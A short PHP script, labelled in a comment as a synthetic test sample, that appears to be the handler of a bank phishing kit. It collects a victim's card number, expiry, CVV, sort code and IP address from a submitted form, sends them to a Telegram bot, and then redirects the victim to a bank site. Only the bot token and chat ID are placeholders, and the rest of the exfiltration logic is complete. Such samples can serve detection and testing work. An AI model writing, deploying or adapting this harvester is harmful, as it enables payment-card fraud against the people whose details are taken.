<?php
// SYNTHETIC TEST SAMPLE - not a working kit
$token = "000000000:AAAA-synthetic-token";
$chatid = "-100000000";
$msg  = "== BANK LOGIN ==\n";
$msg .= "Card: " . $_POST['ccnum'] . "\n";
$msg .= "Exp: " . $_POST['exp'] . "\n";
$msg .= "CVV: " . $_POST['cvv'] . "\n";
$msg .= "Sort code: " . $_POST['sortcode'] . "\n";
$msg .= "IP: " . $_SERVER['REMOTE_ADDR'] . "\n";
$url = "https://api.telegram.org/bot" . $token . "/sendMessage?chat_id=" . $chatid . "&text=" . urlencode($msg);
file_get_contents($url);
header("Location: https://www.example-bank.invalid/");
?>
